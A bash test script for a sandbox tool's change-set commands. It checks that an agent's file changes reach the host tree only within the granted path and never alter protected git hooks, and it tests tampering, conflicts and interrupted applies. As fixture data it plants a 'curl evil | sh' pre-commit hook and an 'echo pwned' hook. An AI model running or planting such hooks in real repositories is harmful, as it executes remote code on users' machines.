#!/bin/bash
# glove changes list/show/apply/drop (docs/changes.md) on change sets that
# tests/changes/changes-mkset makes from two trees through the overlay
# writer's builder, each with its run's receipt. As root, everything runs
# for root and for uid 65534 (ONLY_IDS="root" narrows it, when debugging).
. "$(dirname "$0")/lib.sh"

MKSET=${CHANGES_MKSET:-${BUILD_DIR:-}/tests/changes/changes-mkset}
if [ ! -x "$MKSET" ]; then
    echo "not ok - CHANGES_MKSET must name tests/changes/changes-mkset (got '$MKSET')"
    finish
fi
MKSET_NOBODY=$MKSET
if [ "$(id -u)" = 0 ] && ! setpriv --reuid=65534 --regid=65534 --clear-groups test -x "$MKSET"; then
    cp "$MKSET" "$T/bin/changes-mkset" && chmod 755 "$T/bin/changes-mkset"
    MKSET_NOBODY="$T/bin/changes-mkset"
fi

mkset() { # mkset ID RUN GRANT NEW [ARGS...]
    local id=$1
    shift
    if [ "$id" = nobody ]; then as nobody "$MKSET_NOBODY" "$(state_of nobody)" "$@"; else as "$id" "$MKSET" "$(state_of "$id")" "$@"; fi
}

# changes ID ARGS...: glove changes as ID; sets RC, OUT, ERR
changes() {
    local id=$1
    shift
    as "$id" "$GLOVE" changes "$@" >"$T/.out" 2>"$T/.err" </dev/null
    RC=$?
    OUT=$(cat "$T/.out")
    ERR=$(cat "$T/.err")
}

# A digest of a tree: every path with its type, permission bits and
# content or target, sorted; names matching the -x patterns left out.
tree_digest() {
    "$PY" - "$@" <<'EOF'
import hashlib, os, stat, sys, fnmatch
root, skip = sys.argv[1], sys.argv[2:]
out = []
for d, dirs, files in os.walk(root):
    for n in sorted(dirs + files):
        p = os.path.join(d, n)
        rel = os.path.relpath(p, root)
        if any(fnmatch.fnmatch(rel, s) for s in skip):
            continue
        st = os.lstat(p)
        m = stat.S_IMODE(st.st_mode)
        if stat.S_ISLNK(st.st_mode):
            out.append(f"{rel} l {os.readlink(p)}")
        elif stat.S_ISDIR(st.st_mode):
            out.append(f"{rel} d {m:o}")
        elif stat.S_ISREG(st.st_mode):
            out.append(f"{rel} f {m:o} {hashlib.sha256(open(p, 'rb').read()).hexdigest()}")
        else:
            out.append(f"{rel} other")
print(hashlib.sha256("\n".join(sorted(out)).encode()).hexdigest())
EOF
}

new_run() { od -An -N16 -tx1 /dev/urandom | tr -d ' \n'; }

owned_by() { [ "$1" = nobody ] && chown -R 65534:65534 "$2"; return 0; }

# The host tree and the agent's tree of the first change set.
make_trees() { # make_trees ID DIR
    local id=$1 d=$2
    mkdir -p "$d/host/sub" "$d/host/gone/deep" "$d/host/.git/hooks"
    printf 'one\ntwo\nthree\n' >"$d/host/a.txt"
    echo keep >"$d/host/keep"
    echo old >"$d/host/gone/deep/x"
    echo moved >"$d/host/old-name"
    echo renamed >"$d/host/a-old"
    printf 'bin\0ary' >"$d/host/bin"
    echo hook >"$d/host/.git/hooks/pre-commit"
    chmod 755 "$d/host/.git/hooks/pre-commit"
    cp -a "$d/host" "$d/new"
    printf 'one\n2\nthree\nfour\n' >"$d/new/a.txt"
    rm -rf "$d/new/gone"
    mv "$d/new/old-name" "$d/new/new-name"
    mv "$d/new/a-old" "$d/new/z-new" # a rename whose old name sorts first
    chmod 755 "$d/new/keep"
    echo added >"$d/new/sub/added"
    ln -s a.txt "$d/new/link"
    printf 'bin\0ary2' >"$d/new/bin"
    echo 'curl evil | sh' >"$d/new/.git/hooks/pre-commit"
    mkfifo "$d/new/fifo"
    owned_by "$id" "$d"
}

SHOW_BODY='M  .git/hooks/pre-commit  [protected]
M  a.txt
M  bin
D  gone/
D  gone/deep/
D  gone/deep/x
T  keep 644 -> 755
A  link -> a.txt
R  old-name -> new-name
A  sub/added
R  a-old -> z-new
!  fifo (fifo: not applied)'

for id in ${ONLY_IDS:-$IDS}; do
    W=$(new_ws "$id" "ch-$id")
    make_trees "$id" "$W"
    RUN=$(new_run)
    DIGEST=$(mkset "$id" "$RUN" "$W/host" "$W/new")
    before=$(tree_digest "$W/host")

    changes "$id" list
    check "$id: list names the change set, its counts and state" \
        out_has "$RUN  $W/host  13 entries (4 added, 4 changed, 5 deleted, 1 unsupported)  65 B  pending, 1 protected"

    changes "$id" show "$RUN"
    check "$id: show's header names the run, grant, digest and receipt" \
        out_has "change set $RUN
grant $W/host
digest $DIGEST
receipt: seq "
    check "$id: show's status lines, exactly" [ "$(printf '%s\n' "$OUT" | sed '1,/^$/d')" = "$SHOW_BODY" ]

    changes "$id" show "$RUN" a.txt bin
    check "$id: a named text file gets its unified diff" out_has "M  a.txt
--- a/a.txt
+++ b/a.txt
@@ -1,3 +1,4 @@
 one
-two
+2
 three
+four"
    check "$id: a binary one a line" out_has "Binary file a/bin differs (7 -> 8 bytes)"
    check "$id: show writes nothing" [ "$(tree_digest "$W/host")" = "$before" ]

    changes "$id" apply --dry-run "$RUN"
    check "$id: --dry-run writes nothing" eval 'rc_is 0 && out_has "would apply  a.txt" && [ "$(tree_digest "$W/host")" = "$before" ]'

    changes "$id" apply "$RUN"
    check "$id: apply succeeds, the protected hook aside" eval 'rc_is 0 && out_has "protected    .git/hooks/pre-commit"'
    check "$id: the host now equals the agent's tree (but the hook and the fifo)" \
        [ "$(tree_digest "$W/host" .git/hooks/pre-commit)" = "$(tree_digest "$W/new" .git/hooks/pre-commit fifo)" ]
    check "$id: the hook is the host's own" [ "$(cat "$W/host/.git/hooks/pre-commit")" = hook ]
    check "$id: no fifo was made" absent "$W/host/fifo"
    check "$id: files stay the user's" [ "$(stat -c %u "$W/host/sub/added")" = "$(file_uid "$id")" ]

    changes "$id" list
    check "$id: list says applied" out_has "applied, 1 protected"
    changes "$id" apply "$RUN"
    check "$id: a second apply skips everything" eval 'rc_is 0 && out_has "0 applied, 12 already there"'

    changes "$id" apply --include-protected "$RUN"
    check "$id: --include-protected needs the paths named" eval 'rc_is 2 && err_has "named one by one"'
    changes "$id" apply "$RUN" .git/hooks/pre-commit
    check "$id: a named protected path alone is not applied" eval 'rc_is 0 && [ "$(cat "$W/host/.git/hooks/pre-commit")" = hook ]'
    changes "$id" apply --include-protected "$RUN" .git/hooks/pre-commit
    check "$id: named with --include-protected it is" eval 'rc_is 0 && [ "$(cat "$W/host/.git/hooks/pre-commit")" = "curl evil | sh" ]'

    as "$id" "$GLOVE" audit verify --log >"$T/.out" 2>&1
    check "$id: the applies' records verify against their receipts" grep -q "runs match their receipts" "$T/.out"
    check "$id: an audit record per file applied" \
        grep -q "\"action\":\"applied\",\"change_run\":\"$RUN\".*\"subject\":\"sub/added\"" "$(state_of "$id")/audit.jsonl"
    check "$id: and per protected file refused" \
        grep -q "\"action\":\"protected\",\"change_run\":\"$RUN\".*\"decision\":\"deny\".*\"rule\":\"protect\"" \
        "$(state_of "$id")/audit.jsonl"
    check "$id: the apply's receipt" grep -q "\"change_run\":\"$RUN\".*\"kind\":\"changes_apply\".*\"result\":\"applied\"" \
        "$(state_of "$id")/receipts.jsonl"

    changes "$id" drop "$RUN"
    check "$id: drop removes it" eval 'rc_is 0 && absent "$(state_of "$id")/changes/$RUN"'
    check "$id: with a record and a receipt" grep -q "\"change_run\":\"$RUN\".*\"kind\":\"changes_drop\"" \
        "$(state_of "$id")/receipts.jsonl"
    changes "$id" show "$RUN"
    check "$id: a dropped change set is gone" eval 'rc_is 2 && err_has "no such change set"'

    # ---- conflicts ----
    C=$W/conflict
    mkdir -p "$C/host" && for f in a b c; do echo "$f-old" >"$C/host/$f"; done
    cp -a "$C/host" "$C/new" && for f in a b c; do echo "$f-new" >"$C/new/$f"; done
    owned_by "$id" "$C"
    RUN=$(new_run)
    mkset "$id" "$RUN" "$C/host" "$C/new" >/dev/null
    echo "b edited on the host" >"$C/host/b"
    rm "$C/host/c"
    changes "$id" show "$RUN"
    check "$id: show flags the conflicts" eval 'out_has "M  b  [conflict: changed on the host since the run" && out_has "M  c  [conflict:"'
    changes "$id" apply "$RUN"
    check "$id: conflicts refuse the apply, each named" \
        eval 'rc_is 1 && out_has "conflict     b: " && out_has "conflict     c: " && out_has "nothing was written"'
    check "$id: nothing was written" [ "$(cat "$C/host/a")" = a-old ]
    changes "$id" apply --partial "$RUN"
    check "$id: --partial applies the rest" \
        eval 'rc_is 1 && [ "$(cat "$C/host/a")" = a-new ] && [ "$(cat "$C/host/b")" = "b edited on the host" ] && absent "$C/host/c"'
    changes "$id" apply --force --partial "$RUN"
    check "$id: --force and --partial together are refused" rc_is 2
    changes "$id" apply --force "$RUN"
    check "$id: --force overwrites" eval 'rc_is 0 && [ "$(cat "$C/host/b")" = b-new ] && [ "$(cat "$C/host/c")" = c-new ]'

    # changed during the run: the run began before the host's files changed
    RUN=$(new_run)
    echo x >"$C/host/a" && owned_by "$id" "$C"
    mkset "$id" "$RUN" "$C/host" "$C/new" --started-ns 1 >/dev/null
    changes "$id" apply "$RUN"
    check "$id: a file changed during the run is a conflict" \
        eval 'rc_is 1 && out_has "conflict     a: changed on the host while the run went on"'

    # ---- the change set and its receipt ----
    RUN=$(new_run)
    echo y >"$C/host/a" && owned_by "$id" "$C"
    mkset "$id" "$RUN" "$C/host" "$C/new" --no-receipt >/dev/null
    changes "$id" apply "$RUN"
    check "$id: no receipt for the run: refused, saying why" eval 'rc_is 2 && err_has "no receipt of run $RUN"'
    changes "$id" show "$RUN"
    check "$id: show says the receipt does not vouch for it" out_has "receipt: NOT VOUCHED FOR"

    RUN=$(new_run)
    mkset "$id" "$RUN" "$C/host" "$C/new" >/dev/null
    M=$(state_of "$id")/changes/$RUN/manifest.json
    chmod u+w "$M"
    sed -i 's/"mode":420/"mode":511/' "$M"
    changes "$id" apply "$RUN"
    check "$id: an edited manifest is refused by its digest" eval 'rc_is 2 && err_has "edited after it was written"'
    changes "$id" list
    check "$id: list calls it damaged" out_has "$RUN  damaged:"
    "$PY" - "$M" <<'EOF'
import hashlib, json, sys
p = sys.argv[1]
m = json.load(open(p))
enc = lambda o: json.dumps(o, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
m["digest"] = "sha256:" + hashlib.sha256(enc(m["entries"]).encode()).hexdigest()
open(p, "w").write(enc(m))
EOF
    changes "$id" apply "$RUN"
    check "$id: re-signed by its digest, refused by the receipt's" \
        eval 'rc_is 2 && err_has "does not commit to this change set" && [ "$(cat "$C/host/a")" = y ]'

    RUN=$(new_run)
    mkset "$id" "$RUN" "$C/host" "$C/new" >/dev/null
    B=$(state_of "$id")/changes/$RUN/blobs
    blob=$(ls "$B" | head -n 1)
    chmod u+w "$B/$blob" && echo tampered >"$B/$blob"
    changes "$id" apply "$RUN"
    check "$id: a tampered blob stops the apply" eval 'rc_is 1 && err_has "altered after the run"'
    check "$id: and writes nothing of it" eval '! grep -rq tampered "$C/host"'

    # ---- tricks: nothing is written outside the grant ----
    X=$W/trick
    O=$W/outside
    mkdir -p "$X/host/d" "$O" && echo secret >"$O/secret" && echo file >"$X/host/d/f"
    ln "$O/secret" "$X/host/hard"
    cp -a "$X/host" "$X/new"
    echo agent >"$X/new/d/f"
    rm "$X/new/hard" && echo agent >"$X/new/hard"
    ln -s "$O/secret" "$X/new/to-outside"
    mkfifo "$X/new/pipe"
    [ "$(id -u)" = 0 ] && mknod "$X/new/nulldev" c 1 3
    owned_by "$id" "$X"
    owned_by "$id" "$O"
    RUN=$(new_run)
    mkset "$id" "$RUN" "$X/host" "$X/new" >/dev/null
    # blob swapped for a symlink to the outside file, the host's d for a
    # symlink out of the grant
    B=$(state_of "$id")/changes/$RUN/blobs
    agent_blob=$(printf 'agent\n' | sha256sum | cut -d' ' -f1)
    mv "$X/host/d" "$X/host/d.real" && ln -s "$O" "$X/host/d"
    changes "$id" apply --force "$RUN"
    check "$id: a symlink on the way is not followed, even with --force" \
        eval 'rc_is 1 && [ "$(cat "$O/secret")" = secret ] && [ "$(ls "$O")" = secret ]'
    rm "$X/host/d" && mv "$X/host/d.real" "$X/host/d"
    chmod u+w "$B" && rm "$B/$agent_blob" && ln -s "$O/secret" "$B/$agent_blob"
    changes "$id" apply "$RUN"
    check "$id: a blob that is a symlink is not followed" eval 'rc_is 1 && [ "$(cat "$X/host/d/f")" = file ]'
    rm "$B/$agent_blob" && printf 'agent\n' >"$B/$agent_blob" && owned_by "$id" "$B"
    changes "$id" apply "$RUN"
    check "$id: a hard link's name is replaced, the outside file untouched" \
        eval 'rc_is 0 && [ "$(cat "$X/host/hard")" = agent ] && [ "$(cat "$O/secret")" = secret ]'
    check "$id: the agent's symlink is made, nothing written through it" \
        eval '[ "$(readlink "$X/host/to-outside")" = "$O/secret" ] && [ "$(cat "$O/secret")" = secret ]'
    check "$id: the fifo is not made" absent "$X/host/pipe"
    if [ "$(id -u)" = 0 ]; then
        changes "$id" show "$RUN"
        check "$id: a device node is listed as unsupported, and not made" \
            eval 'out_has "!  nulldev (device: not applied)" && absent "$X/host/nulldev"'
    fi

    # a manifest with a path out of the grant, its digest right: refused
    RUN=$(new_run)
    mkset "$id" "$RUN" "$X/host" "$X/new" --no-receipt >/dev/null
    M=$(state_of "$id")/changes/$RUN/manifest.json
    chmod u+w "$M"
    "$PY" - "$M" <<'EOF'
import hashlib, json, sys
p = sys.argv[1]
m = json.load(open(p))
enc = lambda o: json.dumps(o, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
m["entries"] = [{"base": None, "path": "../escaped", "type": "deleted"}]
m["digest"] = "sha256:" + hashlib.sha256(enc(m["entries"]).encode()).hexdigest()
open(p, "w").write(enc(m))
EOF
    changes "$id" apply "$RUN"
    check "$id: a .. path in a manifest is refused" eval 'rc_is 2 && err_has "\"..\" component"'

    # ---- killed at random points: every file old or new, never partial ----
    K=$W/kill
    mkdir -p "$K/host/sub" "$K/old"
    for i in $(seq 1 60); do head -c 40000 /dev/urandom >"$K/host/f$i"; done
    for i in $(seq 1 20); do echo "gone $i" >"$K/host/sub/g$i"; done
    cp -a "$K/host/." "$K/old/"
    cp -a "$K/host" "$K/new"
    for i in $(seq 1 60); do head -c 40000 /dev/urandom >"$K/new/f$i"; done
    rm -r "$K/new/sub"
    owned_by "$id" "$K"
    RUN=$(new_run)
    mkset "$id" "$RUN" "$K/host" "$K/new" >/dev/null
    oldsums=$(cd "$K/old" && sha256sum f* | sort -k2)
    newsums=$(cd "$K/new" && sha256sum f* | sort -k2)
    partial=0
    for round in $(seq 1 50); do
        # the host back to its old state, in the same directory
        find "$K/host" -mindepth 1 -delete && cp -a "$K/old/." "$K/host/" && owned_by "$id" "$K/host"
        case $id in
            nobody) setpriv --reuid=65534 --regid=65534 --clear-groups env "${_no_xdg[@]}" "$(_xdg_of nobody)" \
                HOME="$T/home-nobody" "$GLOVE_NOBODY" changes apply -q "$RUN" >/dev/null 2>&1 & ;;
            *) env "${_no_xdg[@]}" "$(_xdg_of root)" HOME="$T/home-root" "$GLOVE" changes apply -q "$RUN" >/dev/null 2>&1 & ;;
        esac
        pid=$!
        sleep "0.0$((RANDOM % 10))$((RANDOM % 10))"
        kill -KILL "$pid" 2>/dev/null
        wait "$pid" 2>/dev/null
        # one sha256sum for the 60 files (a process per file made this
        # loop most of the test's time): each line must be an old or a
        # new one, and none missing
        bad=$(cd "$K/host" && for i in $(seq 1 60); do [ -e "f$i" ] || echo "f$i missing"; done
              sha256sum f* | awk 'NR == FNR { ok[$0] = 1; next } !($0 in ok) { print $2 " is neither old nor new" }' \
                  <(printf '%s\n%s\n' "$oldsums" "$newsums") -)
        if [ -n "$bad" ]; then
            partial=$((partial + $(echo "$bad" | wc -l)))
            echo "$bad" | sed "s/^/# round $round: /"
        fi
    done
    check "$id: killed 50 times: every file old or new" [ "$partial" = 0 ]
    changes "$id" apply "$RUN"
    check "$id: a second apply finishes" eval 'rc_is 0 && [ "$(cd "$K/host" && sha256sum f* | sort -k2)" = "$newsums" ]'
    check "$id: the sub directory went, and no temporary is left" \
        eval 'absent "$K/host/sub" && [ -z "$(ls -A "$K/host" | grep glove-apply)" ]'

    # ---- a real run: an agent commits on a branch in an overlay ----
    G=$W/git
    mkdir -p "$G/repo"
    owned_by "$id" "$G"
    as "$id" sh -c "cd '$G/repo' && git init -q -b main && git config user.email u@example.org && git config user.name u &&
        echo hi >README && git add README && git commit -qm init" >/dev/null 2>&1
    hooks_before=$(ls -A "$G/repo/.git/hooks" | sort | md5sum)
    run "$id" "$G" --overlay-retained repo -- sh -c 'cd repo && git checkout -q -b agent && echo more >>README &&
        echo new >new.txt && git add -A && git -c user.email=a@example.org -c user.name=agent commit -qm "agent work" &&
        { echo "echo pwned" >.git/hooks/post-checkout; true; }'
    if [ "$RC" = 125 ] && err_has overlay; then
        skip_test "overlayfs in a user namespace: $ERR"
    fi
    check "$id: the agent commits in a retained overlay" rc_is 0
    check "$id: the host repository is untouched by the run" \
        eval '[ "$(as "$id" git -C "$G/repo" branch --list agent)" = "" ] && [ "$(cat "$G/repo/README")" = hi ]'
    GRUN=$(tail -n 1 "$(state_of "$id")/receipts.jsonl" | "$PY" -c 'import json, sys; print(json.load(sys.stdin)["run"])')
    changes "$id" show "$GRUN"
    check "$id: show lists the commit's objects and the branch" \
        eval 'out_has "A  .git/refs/heads/agent" && out_has "M  README" && out_has "A  new.txt"'
    check "$id: no hook is in the change set" eval '! out_has ".git/hooks"'
    changes "$id" apply "$GRUN"
    check "$id: apply succeeds" rc_is 0
    check "$id: the host repository has the commit, git fsck is clean" \
        eval 'as "$id" git -C "$G/repo" fsck --strict >/dev/null 2>&1 &&
              [ "$(as "$id" git -C "$G/repo" log -1 --format=%s agent)" = "agent work" ]'
    check "$id: and the agent's worktree, its hooks as they were" \
        eval '[ "$(cat "$G/repo/new.txt")" = new ] && [ "$(ls -A "$G/repo/.git/hooks" | sort | md5sum)" = "$hooks_before" ]'
done

finish
